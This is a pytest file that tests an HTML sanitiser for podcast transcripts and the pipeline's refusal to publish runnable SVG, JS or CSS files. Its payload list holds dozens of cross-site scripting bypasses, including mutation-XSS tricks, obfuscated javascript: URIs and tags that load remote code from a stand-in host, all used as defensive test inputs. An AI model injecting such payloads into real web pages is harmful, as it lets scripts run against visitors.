"""A transcript that is a page is opened at the show's own address: nothing of it runs there."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from pipeline.core.notes.tame_page import tame_page
from pipeline.core.transcript import parse_transcript
from pipeline.errors import InputError
from tests.cli.building import EPISODE, INDEX, ShowFolder
from tests.workflows.small_show import DAY, NOW, Clone, body_of, record, slug_of

PLAIN = (
    '<!doctype html><html lang="en"><meta charset="utf-8"><title>Talk</title><style>p { color: teal }</style>'
    "<cite>Ada:</cite><time>0:01</time><p>JavaScript, descriptions on = off, 1 &lt; 2 &lt;script&gt;</p>"
)
TURN = "<cite>Ada:</cite><time>0:01</time><p>Hello there.</p>"
RUNS = [
    "<script>pwned=1</script>",
    "<SCRIPT/src=//evil.invalid/x.js>",
    "<!--><script>pwned=1</script>-->",
    "<!--<script>--!><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg/onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate attributeName=href values='#;javascript:pwned=1' /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1></style></mglyph></table></mtext></math>",
    "<textarea><p title='</textarea><img src=x onerror=pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwned=1>'>",
    "<noembed><p title='</noembed><img src=x onerror=pwned=1>'>",
    "<title><p title='</title><img src=x onerror=pwned=1>'>",
    "<style><p title='</style><img src=x onerror=pwned=1>'>",
    "<![CDATA[><img src=x onerror=pwned=1>]]>",
    "<?xml-stylesheet href='javascript:pwned=1'?>",
    "<a href='javascript:pwned=1'>x</a>",
    "<a href=' java&#9;Script&colon;pwned=1'>x</a>",
    "<a href='&#x6A;&#x61;vascript:pwned=1'>x</a>",
    "<a href='\x01javascript:pwned=1'>x</a>",
    "<a href='data:text/html,<script>pwned=1</script>'>x</a>",
    "<a href='vbscript:pwned'>x</a>",
    "<form action=javascript:pwned=1><button>x</button></form>",
    "<button formaction=javascript:pwned=1>x</button>",
    "<iframe srcdoc='&lt;script&gt;pwned=1&lt;/script&gt;'></iframe>",
    "<iframe src=//evil.invalid></iframe>",
    "<object data=//evil.invalid></object>",
    "<embed src=//evil.invalid>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<meta http-equiv='refresh' content='0;url=data:text/html,x'>",
    "<style>@import '//evil.invalid/x.css'</style>",
    "<p style='background:url(//evil.invalid/x.png)'>x</p>",
    "<details open ontoggle=pwned=1>",
    "<p onpointerrawupdate = pwned=1>x</p>",
    "<template><script>pwned=1</script></template>",
    "<frameset onload=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<select><template><img src=x onerror=pwned=1></template></select>",
    "\x1b$B<script>pwned=1</script>",
]
HARMLESS = {"http", "https", "mailto", "tel", ""}


def live_parts(page: str) -> list[str]:
    """What would run or load, in a page as a browser reads it; its tags are well formed by now."""
    found = []
    for each in html.document_fromstring(page.encode()).iter("*"):
        if each.tag in {
            "script",
            "iframe",
            "object",
            "embed",
            "base",
            "link",
            "form",
            "svg",
            "math",
            "style",
        }:
            found.append(str(each.tag))
        if each.tag == "meta" and each.get("http-equiv") not in {None, "Content-Security-Policy"}:
            found.append("http-equiv")
        for name, value in each.attrib.items():
            scheme = re.match(r"([^/?#]*?):", re.sub(r"[\x00-\x20]", "", value))
            if name in {"href", "src"} and scheme and scheme[1].lower() not in HARMLESS:
                found.append(f"{name}={value}")
            if name.startswith("on") or name in {"style", "srcdoc", "srcset"}:
                found.append(name)
    return found


@pytest.mark.parametrize("attack", RUNS)
def test_nothing_runs_in_a_page_that_is_published(attack: str) -> None:
    """However it hides; the words that were said stay."""
    tame = tame_page(TURN + attack)
    assert tame is not None
    assert live_parts(tame) == []
    assert TURN in tame
    assert "Hello there." in parse_transcript(tame, "text/html")[0].text


@given(st.lists(st.sampled_from([*RUNS, TURN, "<", ">", "'", '"', "<!--", "-->", "</p>", " "]), max_size=8))
def test_attacks_do_not_help_one_another(parts: list[str]) -> None:
    """Side by side, or one cut short by the next."""
    page = "".join(parts)
    tame = tame_page(page)
    if tame is not None:
        assert live_parts(tame) == []
    else:
        assert not set(parts) & set(RUNS)


def test_a_page_of_words_stays_as_it_is() -> None:
    """With its own style, and its talk about scripts."""
    assert tame_page(PLAIN.replace("on =", "on")) is None


def test_what_is_tame_stays_so() -> None:
    """Taming once more changes nothing that matters: it is only words now."""
    for attack in RUNS:
        tame = tame_page(TURN + attack) or ""
        assert tame_page(tame) is None, attack


def published(clone: Clone) -> str:
    """The page that the feed names."""
    stored = record(clone.roots, 1).files["transcript.html"]
    assert stored.content_type == "text/html; charset=utf-8"
    return body_of(clone.roots.public, stored.key).decode()


def test_a_first_release_with_a_script_in_it_is_refused(in_memory: Clone) -> None:
    """With file, line and fix; nothing is written."""
    in_memory.episode(1)
    in_memory.write(f"episodes/{slug_of(1)}/transcript.html", TURN + "\n<script>pwned=1</script>")
    with pytest.raises(InputError, match=r"transcript\.html:2: the transcript holds <script>") as refused:
        in_memory.publish(1)
    assert "Fix: take it out" in str(refused.value)
    assert list(in_memory.roots.public.list()) == []


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp1252"])
def test_a_script_that_comes_with_an_edit_is_taken_out(encoding: str, in_memory: Clone) -> None:
    """What is live goes on being served, so the rule only warns there: the page goes out without it."""
    in_memory.episode(1)
    path = f"episodes/{slug_of(1)}/transcript.html"
    in_memory.write(path, TURN)
    in_memory.publish(1)
    assert published(in_memory) == TURN
    in_memory.write(path, f"{TURN}Füße<script>pwned=1</script>".encode(encoding))
    in_memory.regenerate(NOW + DAY)
    assert "Füße" in published(in_memory)
    assert live_parts(published(in_memory)) == []


def test_what_no_rule_sees_is_taken_out_of_a_first_release(in_memory: Clone) -> None:
    """Parsers do not agree on every page; the one that cleans it is a browser's."""
    in_memory.episode(1)
    in_memory.write(f"episodes/{slug_of(1)}/transcript.html", TURN + RUNS[7])
    in_memory.publish(1)
    assert live_parts(published(in_memory)) == []


def test_an_alternative_file_that_is_a_page_is_tame_as_well(in_memory: Clone) -> None:
    """It has the same address, whatever the front matter calls it."""
    in_memory.episode(1, more="alternatives: [{file: other.html, type: audio/ogg}]")
    in_memory.write(f"episodes/{slug_of(1)}/other.html", TURN + RUNS[0])
    in_memory.publish(1)
    for row in in_memory.roots.public.list():
        if row.key.endswith("other.html"):
            assert live_parts(body_of(in_memory.roots.public, row.key).decode()) == []


RUNNING = ["other.svg", "other.SVG", "other.js", "other.xml", "other.css"]


@pytest.mark.parametrize("name", RUNNING)
@pytest.mark.parametrize("key", ["alternatives", "notes", "guests", "transcript", "artwork", "chapters"])
def test_no_file_of_an_episode_is_served_as_something_that_runs(
    key: str, name: str, show: ShowFolder
) -> None:
    """A drawing with a script in it would run at the show's own address, like a page."""
    lines = {
        "alternatives": f"alternatives: [{{file: {name}, type: audio/ogg}}]",
        "notes": "tags: [x]",
        "guests": f"guests: [{{name: Ada, image: {name}}}]",
        "transcript": f"transcript: {name}",
        "artwork": f"artwork: {name}",
        "chapters": "chapters: chapters.json",
    }
    show.add_front(lines[key])
    if key == "notes":
        show.change(INDEX, "It is rarely", f"![a heel]({name}) It is rarely")
    chapters = {"version": "1.2.0", "chapters": [{"startTime": 0, "title": "x", "img": name}]}
    show.write(f"{EPISODE}/chapters.json", json.dumps(chapters))
    show.write(f"{EPISODE}/{name}", "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>")
    ran = show.publish("001-heel")
    assert ran.code == 3
    assert name in ran.stderr
    assert "Fix: " in ran.stderr
    assert not (show.path / "out").exists()


def test_no_picture_of_the_show_is_served_as_something_that_runs(show: ShowFolder) -> None:
    """Nor one of a person."""
    show.change("podcast.toml", 'name = "Anna Berg"', 'name = "Anna Berg"\nimage = "anna.svg"')
    show.write("anna.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>")
    ran = show.publish("001-heel")
    assert ran.code == 3
    assert '"anna.svg" is of a kind that browsers run' in ran.stderr
